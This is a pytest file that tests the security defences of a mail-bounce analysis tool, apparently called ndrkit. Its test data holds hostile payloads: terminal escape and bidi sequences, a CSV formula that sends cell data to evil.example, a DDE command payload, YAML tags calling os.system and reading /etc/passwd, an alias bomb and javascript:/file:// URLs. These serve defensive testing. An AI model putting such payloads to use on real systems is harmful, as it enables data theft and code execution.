"""The threats of ``docs/security.md`` that no other test holds: files, terminals, logs, rules of others."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

import ndrkit
from bombs import HEAD, WORDS
from conftest import check_report
from ndrkit.cli import main
from ndrkit.scan import writer

# What moves a terminal, hides or turns text round, or breaks a line: C0, C1, zero width, bidi.
UNSEEN = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
MOVES = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202egnp.exe\u2028\x85\x7f\r\u200b"


def hostile(words: str) -> bytes:
    """Give a bounce with hostile words in what was said, its Subject and the returned header."""
    field = words.replace("\r", "")  # which would end it
    return (
        HEAD.replace(b"Undelivered", f"{words} Undelivered".encode())
        + (
            f"{WORDS.decode()}<a@example.org>: host x[192.0.2.1] said: 559 zork {words} frobnicate\n\n"
            f"Received: by x; y\nMessage-ID: <{field}@example.com>\nSubject: {field} hi\n"
            f"From: {field}\n\nHello\n"
        ).encode()
    )


@pytest.fixture
def box(tmp_path: Path) -> Path:
    """Give a folder with a hostile mail, and one that is empty, both with hostile names."""
    box = tmp_path / "box"
    box.mkdir()
    (box / "x\x1b[31m\x9b\u202e.eml").write_bytes(hostile(MOVES))
    (box / "empty\x1b[31m.txt").write_bytes(b"")
    return box


COMMANDS = (
    *(["explain", "--format", form] for form in ("text", "json", "markdown", "html", "page")),
    *(["explain", "--why"], ["scan"], ["scan", "--format", "csv"], ["rules", "coverage"]),
)


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_nothing_in_a_mail_moves_a_terminal(command: list[str], box: Path) -> None:
    """No command prints a control or direction mark from a mail or a file's name, to a terminal too."""
    mail, empty = sorted(box.iterdir(), key=lambda path: -path.stat().st_size)
    given = [mail, mail, empty] if command[0] == "explain" else [box]
    result = CliRunner().invoke(main, [*command, *map(str, given)], color=True)
    assert "zork" in result.output or command[0] == "rules"
    assert not UNSEEN.findall(result.output)


def test_what_is_tried_moves_no_terminal() -> None:
    """``rules try`` shows pasted words without their control characters."""
    result = CliRunner().invoke(main, ["rules", "try", f"550 {MOVES} User unknown"], color=True)
    assert "recipient_unknown" in result.output
    assert not UNSEEN.findall(result.output)


@pytest.mark.parametrize("lang", ["en", "zh-Hans"])
def test_a_log_gets_one_line_a_mail(lang: str) -> None:
    """JSON and the summary for logs are one line for every reader of lines, and JSON loses nothing."""
    words = f"{MOVES}\u2029kind=success =?utf-8?q?a=0Akind=3Dsuccess?="
    report = ndrkit.explain(hostile(words), lang=lang)
    for line in (report.to_json(), report.verdict.summary):
        assert len(line.splitlines()) == 1
        assert not UNSEEN.findall(line)
    assert json.loads(report.to_json()) == check_report(report)
    assert "\u202e" in (report.original.subject or "")


@pytest.mark.parametrize(
    "start", [*"=+-@\t\r\n\0＝＋－＠", " =", "\t=", "\ufeff=", "\u200b+", "\xa0-", "\x1b@"]
)
def test_no_cell_is_a_formula(start: str) -> None:
    """No cell begins like a formula, whatever stands before the sign; a plain cell stays as it is."""
    report = ndrkit.explain("550 5.1.1 <a@example.org>: User unknown")
    report.source = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    report.findings[0].delivery.diagnostic = f"{start}cmd|' /C calc'!A0"
    out = io.StringIO()
    writer("csv", out).write(report)
    (row,) = csv.DictReader(out.getvalue().splitlines())
    assert row["recipient"] == "a@example.org"
    assert row["source"].lstrip("'").endswith('HYPERLINK("https://evil.example/?"&A1)')
    for cell in row.values():
        assert not re.match(r"\W*[=+＝＋－＠@-]", cell) or cell.startswith("'")
        assert not UNSEEN.findall(cell)


RULE_FILES = {
    "an object": "reason: !!python/object/apply:os.system ['touch {mark}']\n",
    "a file": "reason: !!python/name:os.system\nfamily: !include /etc/passwd\n",
    "aliases that multiply": "a0: &a0 [x, x]\n"
    + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10)),
    "an alias of itself": "reason: &me [*me, *me, *me]\n",
    "deep lists": "reason: " + "[" * 5_000 + "]" * 5_000,
}


@pytest.mark.parametrize("name", RULE_FILES)
def test_rule_files_of_others_run_nothing(name: str, tmp_path: Path) -> None:
    """A hostile rule file is a TableError with its line, soon, and runs nothing."""
    mark = tmp_path / "mark"
    path = tmp_path / "rules" / "reasons" / "greylisted.yaml"
    path.parent.mkdir(parents=True)
    path.write_text(RULE_FILES[name].replace("{mark}", str(mark)), "utf-8")
    with pytest.raises(ndrkit.TableError) as caught:
        ndrkit.Explainer(rules=tmp_path / "rules")
    assert all(one.line > 0 and one.file.endswith("greylisted.yaml") for one in caught.value.problems)
    assert not mark.exists()


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "file:///etc/passwd", 'https://a.example/" onclick="x']
)
def test_links_of_rules_are_web_pages(url: str, tmp_path: Path) -> None:
    """A blocklist of a user's own links to nothing but a web page."""
    path = tmp_path / "rules" / "blocklists" / "mine.yaml"
    path.parent.mkdir(parents=True)
    path.write_text(f"id: mine\nname: Mine\nlookup: '{url}'\n", "utf-8")
    with pytest.raises(ndrkit.TableError, match="is not a URL"):
        ndrkit.Explainer(rules=tmp_path / "rules")
